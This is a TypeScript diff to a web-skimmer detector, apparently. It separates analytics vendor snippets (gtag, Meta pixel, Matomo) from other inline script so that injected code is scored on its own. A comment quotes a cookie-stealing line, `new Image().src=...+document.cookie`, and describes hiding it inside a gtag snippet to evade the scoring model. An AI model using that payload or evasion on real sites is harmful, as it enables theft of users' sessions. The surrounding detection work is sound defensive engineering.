@@ -180,6 +180,22 @@ const PLAIN_COMMENT = /<!--[\w\s().,:/&+-]{0,120}-->/g;
 
 /** The text outside the vendors' snippets it holds, or null when it holds none. */
 export function textAroundTagSnippets(text: string): string | null {
+  const around = textOutsideSnippetElements(text);
+  if (around === null) return null;
+  // Another script, a frame or a handler beside the snippets: the whole value is scored, the snippets with it, as
+  // before. Scored alone, such a script may lack the evidence the whole gave (a gtag call list with an `eval` added).
+  if (RUNNING_MARKUP.test(around)) return null;
+  // Beside a stylesheet link a snippet is taken out. Inside a page layout (a Shopify theme.liquid) the page's skeleton
+  // goes too (page-layout.ts): scored whole, the skeleton measured higher than the page with its snippet. Anything
+  // else around it — another element, a template output that is no plain variable — keeps the whole value scored.
+  const outside = around.replace(STYLESHEET_LINK, '');
+  if (!/<[A-Za-z!/]/.test(outside)) return around;
+  const page = textOutsidePageLayout(outside);
+  return page === null || MARKUP_OR_TEMPLATE.test(page) || RUNNING_MARKUP.test(page) ? null : page;
+}
+
+/** The text with every whole vendor element and the plain comments beside them taken out, or null when it holds none. */
+function textOutsideSnippetElements(text: string): string | null {
   if (text.length > MAX_CHARS || !text.includes('script')) return null;
   const rest: string[] = [];
   let from = 0;
@@ -196,15 +212,60 @@ export function textAroundTagSnippets(text: string): string | null {
   }
   if (found === 0) return null;
   rest.push(text.slice(from));
-  const around = rest.join('\n').replace(PLAIN_COMMENT, '');
-  // Another script, a frame or a handler beside the snippets: the whole value is scored, the snippets with it, as
-  // before. Scored alone, such a script may lack the evidence the whole gave (a gtag call list with an `eval` added).
-  if (RUNNING_MARKUP.test(around)) return null;
-  // Beside a stylesheet link a snippet is taken out. Inside a page layout (a Shopify theme.liquid) the page's skeleton
-  // goes too (page-layout.ts): scored whole, the skeleton measured higher than the page with its snippet. Anything
-  // else around it — another element, a template output that is no plain variable — keeps the whole value scored.
-  const outside = around.replace(STYLESHEET_LINK, '');
-  if (!/<[A-Za-z!/]/.test(outside)) return around;
-  const page = textOutsidePageLayout(outside);
-  return page === null || MARKUP_OR_TEMPLATE.test(page) || RUNNING_MARKUP.test(page) ? null : page;
+  return rest.join('\n').replace(PLAIN_COMMENT, '');
+}
+
+/**
+ * A vendor's statements as they stand inside an inline script: gtag.js's `dataLayer` set-up, its `gtag` function and
+ * calls, Meta's `fbq`, Universal Analytics' `ga`, TikTok's `ttq` and Matomo's `_paq` calls, each whole (its arguments
+ * quoted words, numbers or option objects, as in the skeletons).
+ */
+const VENDOR_STATEMENT = new RegExp(
+  [
+    '(?:window\\.)?dataLayer\\s*=\\s*window\\.dataLayer\\s*\\|\\|\\s*\\[\\]\\s*;?',
+    'function\\s+gtag\\s*\\(\\s*\\)\\s*\\{\\s*dataLayer\\.push\\(\\s*arguments\\s*\\)\\s*;?\\s*\\}',
+    'var\\s+_paq\\s*=\\s*window\\._paq\\s*=\\s*window\\._paq\\s*\\|\\|\\s*\\[\\]\\s*;?',
+    SLOT.GTAG.replace(/\{1,12\}$/, ''),
+    SLOT.FBQ.replace(/\{1,12\}$/, ''),
+    SLOT.GA.replace(/\{1,12\}$/, ''),
+    SLOT.TTQ.replace(/\{1,12\}$/, ''),
+    "_paq\\.push\\(\\s*\\[\\s*[\"'][A-Za-z]{1,40}[\"'](?:\\s*,\\s*(?:[\"'][\\w .:/@-]{0,100}[\"']|-?\\d{1,20}|true|false))*\\s*\\]\\s*\\)\\s*;?",
+  ].join('|'),
+  'g',
+);
+const INLINE_SCRIPT = /(<script\b[^>]{0,200}>)([\s\S]*?)(<\/script\s*>)/gi;
+/** A `<script src>` tag with no content and no handler. */
+const BARE_SCRIPT_SRC = /<script(?:\s+(?:async|defer|(?:src|type|id|charset|crossorigin|referrerpolicy|data-[\w-]{1,40})\s*=\s*(["'])[^"'<>]{0,200}\1))+\s*>\s*<\/script\s*>/gi;
+
+/**
+ * The value with its vendors' elements (as `textAroundTagSnippets` takes them) and, inside any other inline script,
+ * its vendors' statements taken out; null when nothing was. Session 33 (adv33, datasets/shape-carriers.ts): a gtag
+ * snippet with `new Image().src='https://…/c?'+document.cookie` added to its calls is no snippet, so it is scored whole,
+ * and the model scored it 0.001 (the same statement alone 0.99): the snippet's statements outweigh the one added. The
+ * model gate scores this remainder beside the whole value (shape-remainder.ts); nothing is left unscored.
+ */
+export function textAroundSnippetStatements(text: string): string | null {
+  if (text.length > MAX_CHARS || !text.includes('<script') || !VENDOR_HINT.test(text)) return null;
+  // Only a script that holds a vendor's statements and something else makes a remainder: a value of whole snippets
+  // beside other markup (a self-hosted tracker's `<script src>`) is scored whole, as textAroundTagSnippets leaves it.
+  let added = false;
+  let out = textAroundTagSnippets(text);
+  if (out === null) {
+    // Whole snippets beside something that runs (a handler, a frame, an inline script; not a bare `<script src>` tag,
+    // a self-hosted tracker's, which the whole value is scored with as before): what runs is scored apart too.
+    const around = textOutsideSnippetElements(text);
+    added = around !== null && RUNNING_MARKUP.test(around.replace(BARE_SCRIPT_SRC, ''));
+    out = added && around !== null ? around : text;
+  }
+  out = out.replace(INLINE_SCRIPT, (whole, open: string, body: string, close: string) => {
+    const rest = body.replace(VENDOR_STATEMENT, '');
+    if (rest === body) return whole;
+    if (rest.trim() === '') return '';
+    added = true;
+    return `${open}${rest}${close}`;
+  });
+  if (!added) return null;
+  // A vendor's loader `<script src>` left beside the rest (textAroundTagSnippets gave up on the whole) goes too.
+  out = out.replace(/<script\b[^>]{0,300}>\s*<\/script\s*>/gi, (tag) => (vendorScriptTagEnd(tag, 0) === tag.length ? '' : tag));
+  return out.trim() === '' ? null : out;
 }
